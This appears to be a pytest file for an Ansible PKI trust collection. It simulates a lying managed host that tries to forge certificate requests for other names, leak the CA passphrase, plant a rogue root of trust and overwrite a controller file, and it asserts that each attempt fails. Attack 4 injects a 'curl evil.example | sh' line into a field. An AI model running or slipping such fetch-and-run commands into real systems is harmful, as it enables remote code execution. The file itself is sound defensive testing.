# SPDX-FileCopyrightText: fleetpki.host_trust contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""A host whose Python lies: root on a host decides what it answers, and must not decide anything else with that."""

from __future__ import annotations

import json

import forging
import host_certificates
import pki
import plays
import pytest
from host_certificates import CA_ROLE, PASSPHRASE, existing_ca

EVIL = "web1"  # the first host of the play, whose variables count for run_once
HONEST = "web2"
VICTIM = {"name": "evil", "common_name": "victim", "subject_alt_name": ["DNS:victim", "DNS:*.bank.example"],
          "not_after": "+3650d"}


@pytest.fixture(scope="module")
def hosts():
    """A host that lies and one that does not."""
    with forging.fleet(EVIL, HONEST) as fleet:
        yield fleet


def play(hosts, *roles, **variables):
    return host_certificates.run(hosts, [host_certificates.play(*roles, become=False)], **variables)


def failure(done, host=EVIL):
    return host_certificates.failure(done, host)


def certificates(host):
    """The names of the certificates that a host has been given."""
    listed = host.run("sh", "-c", "for one in /etc/pki/tls/certs/*.crt /etc/ssl/certs/*.crt; do "
                                  "openssl x509 -noout -ext subjectAltName -in $one 2>/dev/null; done", check=False)
    return {line.strip() for line in listed.stdout.splitlines() if "DNS:" in line}


def test_attack_1_names_of_others_in_a_request(hosts, tmp_path):
    """csr's answer says which certificates the host is to have, and the CA signs them."""
    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **forging.as_facts(
        host_certificate_certificates=[VICTIM])})
    done = play(hosts, **existing_ca(tmp_path))
    assert not [one for one in certificates(hosts[EVIL]) if "victim" in one or "bank" in one], done.output
    assert "bank.example" not in done.output
    assert certificates(hosts[EVIL]) == {f"DNS:{EVIL}"}, "its own certificate, with its own name"


def test_attack_2_the_passphrase_of_the_ca(hosts, tmp_path):
    """csr's answer says that the host is the CA's host: its key's passphrase would be sent there."""
    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **forging.as_facts(private_ca_host=EVIL)})
    variables = existing_ca(tmp_path)
    for name in ("root/root.crt", "issuing/issuing.crt", "issuing/chain.pem"):
        hosts[EVIL].write(f"{tmp_path}/{name}", (tmp_path / name).read_bytes())
    play(hosts, **variables)
    assert "csr" in forging.executed(hosts[EVIL])
    assert not forging.received(hosts[EVIL], PASSPHRASE)
    # Or that the requests are for somebody outside, and in which folder of the controller.
    secret = tmp_path / "secret.pem"
    secret.write_text(pki.root("Secret Root").pem)
    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **forging.as_facts(
        host_certificate_source="external", host_certificate_external_dir=str(tmp_path / "folder"),
        host_certificate_external_trust=str(secret))})
    (tmp_path / "folder").mkdir()
    play(hosts, **existing_ca(tmp_path))
    assert list((tmp_path / "folder").iterdir()) == []
    assert not forging.received(hosts[EVIL], "Secret Root")


def test_attack_3_a_root_of_ones_own_for_all(hosts, tmp_path):
    """Facts of an earlier play say where the CA is, and a forged slurp what its certificates are."""
    root = pki.root("Evil Root")
    tasks = [{"ansible.builtin.setup": {"gather_subset": ["!all"]}, "ignore_errors": True}]
    facts = {"private_ca_host": EVIL, "private_ca_become": True, "private_ca_dir": "/srv/evil"}
    for name in ("root/root.crt", "issuing/issuing.crt", "issuing/chain.pem"):
        hosts[EVIL].write(f"/srv/evil/{name}", root.pem.encode())
    forging.lie(hosts[EVIL], setup=forging.as_facts(**facts))
    book = [{"hosts": "all", "gather_facts": False, "tasks": tasks},
            {"hosts": "all", "gather_facts": False, "tasks": [
                {"ansible.builtin.include_role": {"name": CA_ROLE, "tasks_from": "read"}}],
             "roles": []},
            {"hosts": "all", "gather_facts": False, "roles": [
                {"role": "fleetpki.host_trust.ca_trust",
                 "vars": {"ca_trust_anchors": [{"content": "{{ private_ca_certificates.root }}"}]}}]}]
    listed = json.loads(hosts.inventory.read_text())
    variables = existing_ca(tmp_path)
    listed["all"]["vars"] = {**listed["all"].get("vars", {}), **variables}
    inventory = tmp_path / "hosts.json"
    inventory.write_text(json.dumps(listed))
    for cache in ({}, {"ANSIBLE_CACHE_PLUGIN": "ansible.builtin.jsonfile",
                       "ANSIBLE_CACHE_PLUGIN_CONNECTION": str(tmp_path / "facts")}):
        (tmp_path / "play.yml").write_text(json.dumps(book))
        done = plays.playbook(inventory, str(tmp_path / "play.yml"), environment=cache)
        assert "private_ca_become, private_ca_dir, private_ca_host" in failure(done)
        assert f"{EVIL} has set" in failure(done) and "clear_facts" in failure(done)
        trusted = hosts[HONEST].run("sh", "-c", "cat /usr/local/share/ca-certificates/*.crt || :").stdout
        assert root.pem.splitlines()[5] not in trusted, done.output
    # The next run has the cache alone.
    (tmp_path / "play.yml").write_text(json.dumps(book[1:]))
    done = plays.playbook(inventory, str(tmp_path / "play.yml"), environment=cache)
    assert f"{EVIL} has set private_ca_become" in failure(done)


def test_attack_4_a_file_of_the_controllers(hosts, tmp_path):
    """ca_trust_info's answer says where the report is written, and what of it."""
    precious = tmp_path / "bashrc"
    precious.write_text("precious\n")
    forging.lie(hosts[EVIL], ca_trust_info={"store": "x\n curl evil.example | sh\n", **forging.as_facts(
        trust_report_prometheus=str(precious), trust_report_html=str(tmp_path / "page.html"))})
    done = plays.playbook(hosts.inventory, "fleetpki.host_trust.report", variables={
        "trust_report_dir": str(tmp_path / "report"), "host_trust_become": False})
    assert precious.read_text() == "precious\n", done.output
    metrics = (tmp_path / "report" / "report.prom").read_text().splitlines()
    assert not [line for line in metrics if line.strip().startswith("curl")]
    assert json.loads((tmp_path / "report" / "report.json").read_text())["counts"]["hosts"]["ok"] == 2
